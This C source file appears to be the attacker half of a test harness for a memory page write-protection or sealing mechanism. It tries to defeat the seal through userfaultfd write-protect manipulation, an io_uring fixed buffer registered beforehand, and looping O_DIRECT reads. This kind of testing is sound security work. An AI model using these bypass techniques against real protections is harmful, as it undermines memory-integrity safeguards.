/* Attacks by which the kernel itself undoes the protection, or writes to the page whatever the page table says. */
#include "attacker.h"

#ifndef UFFD_USER_MODE_ONLY
#define UFFD_USER_MODE_ONLY 1
#endif
#define USERFAULT_NEW _IO(0xAA, 0x00)

static int pipe_fds[2];
static char stack[65536];

static void lift(int fd, victim_t *v) {
  struct uffdio_writeprotect request = {{(uintptr_t)v->page, PAGE}, 0};
  if (fd >= 0 && ioctl(fd, UFFDIO_WRITEPROTECT, &request) == 0) try_store(v->page);
}

/* Any userfaultfd of the process lifts the protection that another one made. */
static int fresh_userfault(int fd) {
  struct uffdio_api api = {UFFD_API, 0, 0};
  if (fd >= 0 && ioctl(fd, UFFDIO_API, &api) != 0) return -1;
  return fd;
}

void lift_kept(victim_t *v) { lift(v->userfault, v); }
void lift_device(victim_t *v) {
  if (v->device >= 0) lift(fresh_userfault(ioctl(v->device, USERFAULT_NEW, O_CLOEXEC)), v);
}
void lift_own(victim_t *v) { lift(fresh_userfault((int)syscall(SYS_userfaultfd, O_CLOEXEC | UFFD_USER_MODE_ONLY)), v); }
void unregister_own(victim_t *v) {
  int fd = fresh_userfault((int)syscall(SYS_userfaultfd, O_CLOEXEC | UFFD_USER_MODE_ONLY));
  struct uffdio_range range = {(uintptr_t)v->heap, v->length};
  if (fd >= 0 && ioctl(fd, UFFDIO_UNREGISTER, &range) == 0) try_store(v->page);
}
void register_own(victim_t *v) {
  int fd = fresh_userfault((int)syscall(SYS_userfaultfd, O_CLOEXEC | UFFD_USER_MODE_ONLY));
  struct uffdio_register request = {{(uintptr_t)v->heap, v->length}, UFFDIO_REGISTER_MODE_WP, 0};
  if (fd >= 0 && ioctl(fd, UFFDIO_REGISTER, &request) == 0) lift(fd, v);
}

static int uring = -1;
static void *uring_memory;
struct uring_parameters { uint32_t words[30]; };

/* A buffer that io_uring was given before the seal: the kernel writes to its pages, whatever the page table says. */
void uring_before(victim_t *v) {
  struct uring_parameters parameters;
  memset(&parameters, 0, sizeof parameters);
  uring = (int)syscall(SYS_io_uring_setup, 4, &parameters);
  if (uring < 0) return;
  struct iovec one = {v->page, PAGE};
  if (syscall(SYS_io_uring_register, uring, 0, &one, 1) != 0) {
    close(uring);
    uring = -1;
    return;
  }
  /* sq_off.array follows entries.. : fields of struct io_sqring_offsets at word 10; see io_uring_setup(2). */
  uring_memory = mmap(NULL, 8192, PROT_READ | PROT_WRITE, MAP_SHARED | MAP_POPULATE, uring, 0);
  unsigned char *entries = mmap(NULL, 4096, PROT_READ | PROT_WRITE, MAP_SHARED | MAP_POPULATE, uring, 0x10000000);
  if (uring_memory == MAP_FAILED || entries == MAP_FAILED || pipe(pipe_fds) != 0) return;
  if (write(pipe_fds[1], "\xEE", 1) != 1) return;
  memset(entries, 0, 64);
  entries[0] = 4; /* IORING_OP_READ_FIXED */
  memcpy(entries + 4, &pipe_fds[0], 4);
  uint64_t offset = (uint64_t)-1, address = (uintptr_t)v->page;
  uint32_t length = 1;
  memcpy(entries + 8, &offset, 8);
  memcpy(entries + 16, &address, 8);
  memcpy(entries + 24, &length, 4);
  uint32_t tail = parameters.words[11], array = parameters.words[16];
  ((uint32_t *)((char *)uring_memory + array))[0] = 0;
  *(uint32_t *)((char *)uring_memory + tail) = 1;
}
void uring_during(victim_t *v) {
  (void)v;
  if (uring >= 0) syscall(SYS_io_uring_enter, uring, 1, 1, 1, NULL, 0);
}

/* Direct reads of a file into the page, in a loop, from before the seal: one that is under way writes after it. */
static atomic_int direct_stop;
static int direct_fd = -1;
static int direct_loop(void *page) {
  while (!atomic_load(&direct_stop)) {
    if (pread(direct_fd, page, PAGE, 0) < 0) break;
  }
  return 0;
}
void direct_before(victim_t *v) {
  direct_fd = open("direct.bin", O_RDWR | O_CREAT | O_DIRECT, 0600);
  void *buffer = NULL;
  if (direct_fd < 0 || posix_memalign(&buffer, PAGE, PAGE) != 0) return;
  memset(buffer, 0xEE, PAGE);
  if (pwrite(direct_fd, buffer, PAGE, 0) != (ssize_t)PAGE) return;
  clone(direct_loop, stack + sizeof stack, CLONE_VM | CLONE_FS | CLONE_FILES | CLONE_SIGHAND | CLONE_THREAD, v->page);
  usleep(2000);
}
void direct_during(victim_t *v) {
  (void)v;
  usleep(20000);
}
